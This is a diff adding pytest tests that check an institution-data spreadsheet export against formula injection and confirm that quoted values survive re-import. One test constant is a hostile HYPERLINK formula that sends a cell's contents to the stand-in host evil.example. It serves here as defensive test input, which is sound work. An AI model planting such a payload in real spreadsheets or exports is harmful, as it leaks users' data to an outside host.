@@ -95,3 +95,57 @@ def test_partners_export_only_what_they_see_and_cannot_import(clients):
     assert not any("Oltinsoy" in (n or "") for n in names)
     assert clients["partner_a"].get("/institutions/import/").status_code == 403
     assert AuditEntry.objects.filter(action="institution.export").exists()
+
+
+ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+def _export_rows(client) -> list[tuple]:
+    exported = client.get("/institutions/export.xlsx")
+    return list(load_workbook(io.BytesIO(exported.content)).active.iter_rows())
+
+
+def test_a_name_a_partner_sets_is_exported_as_text_not_as_a_formula(world, actors, coordinator):
+    from leizu.institutions import services
+
+    kz1 = world["institutions"]["kz1"]
+    services.institution_update(
+        institution=kz1,
+        by=actors["partner_a"],
+        data={"name": {**kz1.name, "en": ATTACK}, "national_id": "-17", "schac_code": "@SUM(1)"},
+        version=None,
+    )
+    rows = _export_rows(coordinator)
+    header = [c.value for c in rows[0]]
+    row = next(r for r in rows if r[0].value == kz1.pk)
+    cells = dict(zip(header, row, strict=True))
+    assert cells["name_en"].data_type == "s"
+    assert cells["name_en"].value == "'" + ATTACK
+    assert cells["national_id"].value == "'-17"
+    assert cells["schac_code"].value == "'@SUM(1)"
+    assert not any(c.data_type == "f" for r in rows for c in r)
+    assert cells["id"].data_type == "n"  # numbers stay numbers
+
+
+def test_importing_an_export_with_quoted_names_gives_the_names_back_unchanged(
+    world, actors, coordinator
+):
+    from leizu.institutions import services
+
+    kz1, uz1 = world["institutions"]["kz1"], world["institutions"]["uz1"]
+    services.institution_update(
+        institution=kz1, by=actors["partner_a"], data={"name": {"en": ATTACK}}, version=None
+    )
+    services.institution_update(
+        institution=uz1, by=actors["partner_b"], data={"name": {"en": "'quoted"}}, version=None
+    )
+    exported = coordinator.get("/institutions/export.xlsx")
+    response = coordinator.post(
+        "/institutions/import/",
+        {"file": SimpleUploadedFile("again.xlsx", exported.content)},
+        HTTP_ACCEPT_LANGUAGE="en",
+    )
+    assert "0 created, 0 updated, 8 unchanged" in response.content.decode()
+    kz1.refresh_from_db()
+    uz1.refresh_from_db()
+    assert (kz1.name["en"], uz1.name["en"]) == (ATTACK, "'quoted")
